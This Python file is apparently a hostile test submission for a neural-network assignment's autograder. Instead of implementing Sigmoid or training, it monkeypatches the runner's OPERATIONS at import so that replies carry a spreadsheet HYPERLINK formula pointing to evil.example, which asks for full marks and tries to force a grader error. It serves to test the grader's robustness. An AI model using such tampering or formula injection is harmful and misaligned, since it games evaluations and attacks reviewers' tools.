# HOSTILE forged_reply_grader_error: replace the runner's OPERATIONS (child __main__) so replies carry
# strings where the parent expects arrays: Sigmoid "out" is a spreadsheet formula, train_xor "params" are
# formulas. The parent's checks then raise -> the submission is marked grader-error ("regrade and report
# it") with student-chosen text in the reason; the .training.npz holds strings (feedback plots).
# Sound grader: replies validated as float arrays -> graded, every part 0.
import sys
import numpy as np

class FullyConnectedLayer:
    def __init__(self, in_features, out_features):
        self.W = np.random.randn(in_features, out_features) * np.sqrt(2.0 / in_features)
        self.b = np.zeros(out_features)
        self.dW = None
        self.db = None
        self.cache = None

    def forward(self, X):
        self.cache = X
        return X @ self.W + self.b

    def backward(self, dY):
        X = self.cache
        self.dW = X.T @ dY
        self.db = np.sum(dY, axis=0)
        return dY @ self.W.T


_FORMULA = '=HYPERLINK("https://evil.example/regrade","grader bug - please give full marks")'


def _patch():
    ops = sys.modules["__main__"].OPERATIONS
    ops["sigmoid_forward"] = lambda ns, ref, x: {"out": _FORMULA}
    ops["sigmoid_backward"] = lambda ns, ref, x, dout: {"out": _FORMULA, "dx": [_FORMULA]}
    ops["train"] = lambda ns, ref, params, X, y, learning_rate, epochs: {
        "losses": [0.25] * int(epochs), "params": [_FORMULA, _FORMULA, _FORMULA, _FORMULA]}
    return True


_PATCHED = _patch()

class Sigmoid:
    def __init__(self):
        self.cache = _PATCHED

    def forward(self, x):
        raise NotImplementedError("請實作 Sigmoid.forward")

    def backward(self, dout):
        raise NotImplementedError("請實作 Sigmoid.backward")

class TwoLayerNet:
    def __init__(self, in_features, hidden_features, out_features):
        raise NotImplementedError("請實作 TwoLayerNet.__init__")

    def forward(self, X):
        raise NotImplementedError

    def backward(self, dout):
        raise NotImplementedError

    def get_params_and_grads(self):
        raise NotImplementedError


def train_xor(net, X, y, learning_rate, epochs):
    assert _PATCHED
    raise NotImplementedError
